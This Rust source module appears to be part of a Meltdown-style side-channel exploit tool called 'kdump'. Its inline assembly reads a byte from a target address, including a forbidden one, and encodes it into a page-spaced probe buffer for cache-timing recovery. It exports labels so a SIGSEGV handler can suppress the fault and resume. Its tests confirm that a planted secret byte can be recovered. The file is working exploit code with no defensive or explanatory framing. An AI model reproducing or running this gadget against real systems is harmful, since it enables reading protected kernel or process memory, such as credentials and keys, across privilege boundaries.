//! The transient read: load a byte from the target and use it to touch
//! one page of the probe buffer.
//!
//! The sequence lives in `global_asm!` so the faulting instruction and the
//! instruction after the dependent load carry fixed, exported labels. The
//! SIGSEGV handler compares the trapping RIP against `kdump_fault_site` and
//! resumes at `kdump_resume`.
//!
//! A leaked zero is not retried in place: it touches slot 0, which the
//! decision engine treats as "no signal".

use core::arch::global_asm;
use core::ptr::addr_of;

global_asm!(
    ".pushsection .text",
    ".globl kdump_leak",
    ".globl kdump_fault_site",
    ".globl kdump_resume",
    ".hidden kdump_leak",
    ".hidden kdump_fault_site",
    ".hidden kdump_resume",
    ".p2align 4",
    // rdi = target, rsi = slot 0 of the probe buffer
    "kdump_leak:",
    "kdump_fault_site:",
    "    movzx eax, byte ptr [rdi]",
    "    shl rax, 12",
    "    mov rax, qword ptr [rsi + rax]",
    "kdump_resume:",
    "    ret",
    ".popsection",
);

extern "C" {
    fn kdump_leak(target: usize, probe_base: *const u8);
    static kdump_fault_site: u8;
    static kdump_resume: u8;
}

/// Runs the read-and-encode sequence once.
///
/// # Safety
/// `probe_base` must point at 256 mapped, page-spaced slots. If `target` is
/// not readable the load faults, so the caller must have a fault
/// suppression strategy in place.
#[inline(always)]
pub unsafe fn leak(target: usize, probe_base: *const u8) {
    kdump_leak(target, probe_base)
}

/// Address of the load that faults on a forbidden target.
pub fn fault_site() -> usize {
    unsafe { addr_of!(kdump_fault_site) as usize }
}

/// Where execution continues after a suppressed fault.
pub fn resume_point() -> usize {
    unsafe { addr_of!(kdump_resume) as usize }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::cache::{reload_time, ProbeBuffer};

    #[test]
    fn labels_bracket_the_sequence() {
        assert!(resume_point() > fault_site());
        assert!(resume_point() - fault_site() < 32);
    }

    #[test]
    fn readable_target_caches_its_slot() {
        let buf = ProbeBuffer::new().unwrap();
        let secret = Box::new(0x41u8);
        let target = &*secret as *const u8 as usize;

        let (mut touched, mut untouched) = (0u64, 0u64);
        for _ in 0..1_000 {
            buf.flush_all();
            unsafe {
                leak(target, buf.base());
                touched += reload_time(buf.slot(0x41));
                untouched += reload_time(buf.slot(0x42));
            }
        }
        assert!(untouched > touched, "untouched {untouched} vs touched {touched}");
    }
}
